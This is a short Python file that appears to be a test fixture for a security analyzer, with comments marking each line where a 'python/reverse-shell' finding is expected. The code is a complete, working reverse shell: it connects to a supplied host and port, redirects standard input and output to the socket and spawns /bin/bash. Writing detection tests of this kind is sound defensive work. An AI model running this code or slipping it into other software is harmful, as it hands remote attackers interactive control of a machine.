import os
import pty
import socket


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)  # want "python/reverse-shell"
    os.dup2(s.fileno(), 1)  # want "python/reverse-shell"
    os.dup2(s.fileno(), 2)  # want "python/reverse-shell"
    pty.spawn("/bin/bash")
